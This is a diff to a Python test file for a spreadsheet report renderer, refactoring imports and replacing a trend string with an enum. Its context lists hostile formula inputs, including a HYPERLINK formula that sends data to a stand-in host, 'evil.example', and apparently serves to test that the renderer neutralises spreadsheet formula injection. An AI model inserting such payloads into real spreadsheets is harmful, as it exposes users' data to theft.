@@ -17,8 +17,9 @@ from factories import COMPLETED, HOSTILE_TEXT, MINOR, action, make_context
 
 from wfs_reports.cli import main
 from wfs_reports.config import load_templates
+from wfs_reports.domain.trend import Trend
 from wfs_reports.render.xlsx import render_xlsx
-from wfs_reports.report.context import Changes
+from wfs_reports.report.view import Changes
 
 FORMULA_TEXTS = [
     '=HYPERLINK("http://evil.example/steal?x=1","Click for update")',
@@ -141,7 +142,7 @@ def test_trend_column_only_with_an_earlier_report(rendered):
     context, _result = rendered
     rec = context.recommendations[0]
     trending = dataclasses.replace(rec, actions=tuple(
-        dataclasses.replace(a, rag_previous=MINOR, trend="better") for a in rec.actions))
+        dataclasses.replace(a, rag_previous=MINOR, trend=Trend.BETTER) for a in rec.actions))
     compared = dataclasses.replace(
         make_context([trending]),
         changes=Changes("1 September 2023", "old.json", (), (), (), (), ()))
